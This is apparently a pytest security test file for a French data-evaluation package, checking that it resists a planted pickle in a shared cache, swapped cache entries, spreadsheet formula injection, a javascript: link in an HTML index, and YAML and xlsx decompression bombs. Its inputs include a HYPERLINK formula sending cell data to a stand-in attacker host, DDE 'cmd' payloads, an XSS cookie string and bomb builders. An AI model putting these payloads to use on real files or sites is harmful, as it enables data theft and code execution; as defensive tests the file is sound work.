"""Security under attack (issue 15): shared cache, spreadsheet formulas, links, decompression bombs.

Each test reproduces one case of the issue as an attacker would set it up.
"""
import io
import os
import pickle
import stat
import sys
import time
import zipfile
from contextlib import redirect_stderr, redirect_stdout
from pathlib import Path

import pandas as pd
import pytest

sys.path.insert(0, str(Path(__file__).resolve().parent))

from bundles.small import small_tables, write_small_bundle  # noqa: E402
from fne_eval.bundle import io as bio  # noqa: E402
from fne_eval.bundle import load as bload  # noqa: E402
from fne_eval.bundle import load_bundle  # noqa: E402
from fne_eval.bundle.io import BundleError, read_bundle_raw, write_bundle  # noqa: E402
from fne_eval.cli.main import main  # noqa: E402
from fne_eval.runner.plan import PlanError, load_plan  # noqa: E402


def _cli(argv):
    out, err = io.StringIO(), io.StringIO()
    with redirect_stdout(out), redirect_stderr(err):
        code = main(argv)
    return code, out.getvalue(), err.getvalue()


# --------------------------------------------------------------------------- disk cache

@pytest.fixture()
def shared_cache(tmp_path, monkeypatch):
    """A cache folder anyone could write to, and a per-user key kept elsewhere."""
    cache = tmp_path / "shared-cache"
    monkeypatch.setenv("FNE_EVAL_CACHE_DIR", str(cache))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    monkeypatch.delenv("FNE_EVAL_CACHE_KEY_FILE", raising=False)
    bload._load_cached.cache_clear()
    yield cache
    bload._load_cached.cache_clear()


class _Planted:
    """Unpickling this runs code: it writes a marker file."""

    def __init__(self, marker):
        self.marker = str(marker)

    def __reduce__(self):
        return (Path(self.marker).write_text, ("code exécuté",))


def _entries(cache: Path) -> list:
    return [p for p in cache.iterdir() if p.is_file() and not p.name.startswith(".")]


def _population_bundle(folder, population: str):
    tables = small_tables()
    tables["populations"][0] = {**tables["populations"][0], "population": population}
    return write_small_bundle(folder, tables)


def test_planted_pickle_in_shared_cache_never_runs(shared_cache, tmp_path):
    folder = write_small_bundle(tmp_path / "b")
    expected = load_bundle(folder)["populations"]["population"].tolist()
    entries = _entries(shared_cache)
    assert entries, "the bundle was cached"
    marker = tmp_path / "owned"
    for entry in entries:  # an attacker overwrites every entry of the shared folder
        entry.write_bytes(pickle.dumps(_Planted(marker)))
    bload._load_cached.cache_clear()
    again = load_bundle(folder)
    assert not marker.exists(), "a pickle planted in the cache folder was run"
    assert again["populations"]["population"].tolist() == expected


def test_entry_copied_from_another_bundle_is_not_served(shared_cache, tmp_path):
    # two bundles that differ by one population: 147122 (Aix, INSEE 2021) and 1
    real = _population_bundle(tmp_path / "real", "147122")
    other = _population_bundle(tmp_path / "other", "1")
    load_bundle(real)
    real_entries = set(_entries(shared_cache))
    load_bundle(other)
    (other_entry,) = set(_entries(shared_cache)) - real_entries
    (real_entry,) = real_entries
    real_entry.write_bytes(other_entry.read_bytes())  # other's entry under real's name
    bload._load_cached.cache_clear()
    b = load_bundle(real)
    assert b["populations"]["population"].iloc[0] == 147122


def test_cache_key_is_private_and_outside_the_cache_folder(shared_cache, tmp_path):
    from fne_eval.bundle import diskcache

    load_bundle(write_small_bundle(tmp_path / "b"))
    key = diskcache.key_file()
    assert key.is_file() and shared_cache not in key.parents
    assert stat.S_IMODE(key.stat().st_mode) == 0o600
    # a key others can read is not trusted: the cache is not used (and nothing breaks)
    key.chmod(0o644)
    assert diskcache.secret_key(shared_cache) is None
    bload._load_cached.cache_clear()
    before = set(_entries(shared_cache))
    assert len(load_bundle(write_small_bundle(tmp_path / "c"), validate=False)["territories"]) > 0
    assert set(_entries(shared_cache)) == before


# --------------------------------------------------------------------------- formula injection

FORMULAS = ['=HYPERLINK("http://attaquant.example/?"&A1,"Cliquez")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0",
            "-2+3+cmd|' /C calc'!A0"]


def test_export_to_csv_neutralises_formulas_and_reads_them_back(tmp_path):
    tables = small_tables()
    template = tables["events"][0]
    tables["events"] = [{**template, "event_id": f"E{i}", "title": f} for i, f in enumerate(FORMULAS)]
    src = write_small_bundle(tmp_path / "b", tables)
    code, _, err = _cli(["export", "--bundle", str(src), str(tmp_path / "out")])
    assert code == 0, err
    raw = pd.read_csv(tmp_path / "out" / "events.csv", dtype=str, keep_default_na=False)
    for cell in raw["title"]:
        assert cell[0] not in "=+-@", cell  # a spreadsheet shows it as text, runs nothing
    back = load_bundle(tmp_path / "out")
    assert sorted(back["events"]["title"]) == sorted(FORMULAS)  # the data are unchanged
    # plain numbers stay numbers (a negative longitude is not a formula)
    assert bio.neutralise_csv_cell("-3.5") == "-3.5" and bio.neutralise_csv_cell("=1") == "'=1"


def test_import_out_csv_neutralises_formulas(tmp_path):
    src = tmp_path / "lieux.csv"
    src.write_text("id,pivot,nom,commune,code_postal,code_insee,adresse,date_maj,services\n"
                   "a1,12345678901234,\"=HYPERLINK(\"\"http://x.example\"\",\"\"Lieu\"\")\",Arles,13200,13004,"
                   "\"+cmd|' /C calc'!A0\",2024-05-01,Aide aux démarches administratives\n", encoding="utf-8")
    out = tmp_path / "o.csv"
    code, _, err = _cli(["import", "lieux-standard", str(src), "--out", str(out)])
    assert code in (0, 1), err
    raw = pd.read_csv(out, dtype=str, keep_default_na=False)
    for col in ("nom", "adresse"):
        assert raw.loc[0, col][0] == "'", raw.loc[0, col]


# --------------------------------------------------------------------------- outputs/index.html

def test_javascript_folder_never_becomes_a_link(tmp_path):
    from fne_eval.runner.index import write_outputs_index

    out = tmp_path / "outputs"
    good = {"run_id": "20251120-101500-copil-abcdef", "plan": {"title": "COPIL"}, "started_at": "2025-11-20T10:15:00+00:00",
            "duration_s": 12.5, "counts": {"ok": 1, "failed": 0}, "bundle": {"hash": "a" * 64}, "package_version": "1"}
    for name in ("javascript:alert(document.cookie)", "20251120-101500-copil-abcdef"):
        (out / name).mkdir(parents=True)
        (out / name / "manifest.json").write_text(__import__("json").dumps(good), encoding="utf-8")
    html = write_outputs_index(out).read_text(encoding="utf-8")
    assert "javascript:" not in html
    assert 'href="./20251120-101500-copil-abcdef/index.html"' in html


# --------------------------------------------------------------------------- bombs

def _plan_text(body: str) -> str:
    return body + "name: bombe\ntitle: Bombe\nreports:\n  - notebook: demo\n    parameters: {x: *l6}\n"


def test_yaml_alias_bomb_is_refused_quickly_with_a_short_message(tmp_path):
    lines = ['l0: &l0 "lol"']
    for i in range(1, 7):  # 10^6 leaves in 400 bytes
        lines.append(f"l{i}: &l{i} [" + ", ".join([f"*l{i - 1}"] * 10) + "]")
    path = tmp_path / "bombe.yaml"
    path.write_text("x-anchors:\n" + "\n".join("  " + ln for ln in lines) + "\n" + _plan_text(""),
                    encoding="utf-8")
    assert path.stat().st_size < 600
    t0 = time.perf_counter()
    with pytest.raises(PlanError) as info:
        load_plan(path)
    assert time.perf_counter() - t0 < 30  # a guard against a hang, not a speed measure
    msg = str(info.value)
    assert len(msg) < 2000, len(msg)
    assert "alias" in msg


SST_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
SST_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"
SST_CONTENT = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"


def _bomb_xlsx(tmp_path, n_strings: int) -> Path:
    """A valid bundle workbook with a shared-strings part of ``n_strings`` strings (as Excel writes them)."""
    b = load_bundle(write_small_bundle(tmp_path / "b"))
    plain = write_bundle(b.tables, tmp_path / "plain.xlsx", b.meta)
    src = zipfile.ZipFile(plain)
    out = tmp_path / "bombe.xlsx"
    sst = (f'<?xml version="1.0" encoding="UTF-8"?>\n<sst xmlns="{SST_NS}" count="{n_strings + 1}" '
           f'uniqueCount="{n_strings + 1}"><si><t>a</t></si>').encode() + b"<si><t>x</t></si>" * n_strings + b"</sst>"
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename == "[Content_Types].xml":
                data = data.replace(b"</Types>", f'<Override PartName="/xl/sharedStrings.xml" '
                                                 f'ContentType="{SST_CONTENT}"/></Types>'.encode())
            if info.filename == "xl/_rels/workbook.xml.rels":
                data = data.replace(b"</Relationships>", f'<Relationship Id="rIdSST" Type="{SST_TYPE}" '
                                                         f'Target="sharedStrings.xml"/></Relationships>'.encode())
            dst.writestr(info.filename, data)
        dst.writestr("xl/sharedStrings.xml", sst)
    return out


def test_xlsx_shared_strings_bomb_is_refused_before_parsing(tmp_path):
    bomb = _bomb_xlsx(tmp_path, 1_500_000)  # ~25 MB of XML in a few tens of KB
    assert bomb.stat().st_size < 200_000
    with pytest.raises(BundleError, match="décompress"):
        read_bundle_raw(bomb)
    code, out, err = _cli(["validate", str(bomb)])
    assert code == 2 and "Traceback" not in err


def test_normal_workbook_with_shared_strings_still_reads(tmp_path):
    wb = _bomb_xlsx(tmp_path, 0)
    raw = read_bundle_raw(wb)
    assert len(raw.frames["territories"]) == len(small_tables()["territories"])


def test_duplicated_yaml_key_is_refused(tmp_path):
    path = tmp_path / "plan.yaml"
    path.write_text("name: double\ntitle: Double\ndefaults: {year: 2025, threshold: 5}\n"
                    "reports:\n  - notebook: demo\ndefaults: {year: 2024, threshold: 5}\n", encoding="utf-8")
    with pytest.raises(PlanError) as info:
        load_plan(path)
    assert "defaults" in str(info.value) and "en double" in str(info.value) and "ligne 6" in str(info.value)


def test_seal_gives_back_only_this_users_blob_for_this_key(shared_cache):
    """The helper other caches (the indicator store's Parquet files) can wrap their entries with."""
    from fne_eval.bundle import diskcache

    blob = diskcache.seal(b"table", "cle-a")
    assert diskcache.unseal(blob, "cle-a") == b"table"
    assert diskcache.unseal(blob, "cle-b") is None  # copied under another key
    assert diskcache.unseal(blob[:-1] + b"X", "cle-a") is None  # altered
    assert diskcache.unseal(b"table", "cle-a") is None  # planted unsealed
